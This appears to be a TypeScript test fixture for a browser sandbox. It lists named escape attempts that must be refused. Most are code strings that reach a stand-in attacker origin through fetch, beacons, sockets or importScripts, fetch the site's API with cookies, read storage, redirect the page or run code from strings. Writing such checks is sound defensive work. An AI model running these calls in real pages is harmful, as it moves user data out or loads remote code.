/** Ways out, by name: bodies of a function that knows EVIL and SITE (origins). Each must throw or be refused. */
export const ESCAPES: Readonly<Record<string, string>> = {
  fetch: 'return fetch(EVIL + "/fetch", { mode: "no-cors" });',
  'a fetch of the site with cookies': 'return fetch(SITE + "/api/state", { credentials: "include" });',
  XMLHttpRequest:
    'const x = new XMLHttpRequest(); x.open("GET", EVIL + "/xhr", false); x.send(); return x.status;',
  WebSocket:
    'const w = new WebSocket(EVIL.replace("http", "ws") + "/ws"); return new Promise((yes, no) => { w.onopen = yes; w.onerror = no; });',
  WebSocketStream: 'return new WebSocketStream(EVIL.replace("http", "ws") + "/wss").opened;',
  EventSource:
    'const e = new EventSource(EVIL + "/events"); return new Promise((yes, no) => { e.onopen = yes; e.onerror = no; });',
  WebRTC: 'return new RTCPeerConnection();',
  WebTransport:
    'const w = new WebTransport(EVIL.replace("http:", "https:") + "/wt"); w.closed.catch(() => {}); return w.ready;',
  'a beacon': 'return navigator.sendBeacon(EVIL + "/beacon", "x");',
  fetchLater: 'return fetchLater(EVIL + "/later");',
  importScripts: 'importScripts(EVIL + "/scripts.js"); return 1;',
  'a font': 'return new FontFace("x", "url(" + EVIL + "/font)").load();',
  'a worker of its own':
    'const u = URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(EVIL + "/nested") + ", { mode: \\"no-cors\\" })"])); const w = new Worker(u); return new Promise((yes, no) => { w.onmessage = yes; w.onerror = no; });',
  'a shared worker': 'return new SharedWorker("data:text/javascript,1");',
  'a worker from the site':
    'const w = new Worker(SITE + "/sandbox/referee.js"); return new Promise((yes, no) => { w.onmessage = yes; w.onerror = no; });',
  localStorage: 'return self.localStorage.getItem("x");',
  indexedDB:
    'const q = indexedDB.open("hotpath"); return new Promise((yes, no) => { q.onsuccess = yes; q.onerror = () => no(q.error); });',
  caches: 'return caches.open("x").then((c) => c.put(SITE + "/x", new Response("x")));',
  cookieStore: 'return cookieStore.getAll();',
  'the origin’s private file system': 'return navigator.storage.getDirectory();',
  'a broadcast to the site’s tabs':
    'const b = new BroadcastChannel("hotpath"); return new Promise((yes) => { b.onmessage = yes; b.postMessage("hello"); });',
  'a service worker': 'return navigator.serviceWorker.register("/x.js");',
  'a popup': 'return self.open(EVIL);',
  'top navigation': 'self.top.location = EVIL; return 1;',
  'a forged message': 'self.postMessage({ type: "taken", samples: [1] }); return 1;',
  'closing the worker': 'self.close(); return 1;',
  'a timer': 'return setTimeout(() => {}, 0);',
  'code from a string': 'return (0, eval)("1 + 1");',
  'a function from a string': 'return new Function("return 3")();',
  'an async function from a string':
    'return Object.getPrototypeOf(async function () {}).constructor("return 3")();',
  WebAssembly: 'return WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));',
  'shared memory':
    'return new SharedArrayBuffer(8).byteLength || new WebAssembly.Memory({ initial: 1, maximum: 2, shared: true }).buffer;',
  'a message channel': 'return new MessageChannel().port1.postMessage(1);',
  'the harness’s port': 'return MessagePort.prototype.postMessage;',
};
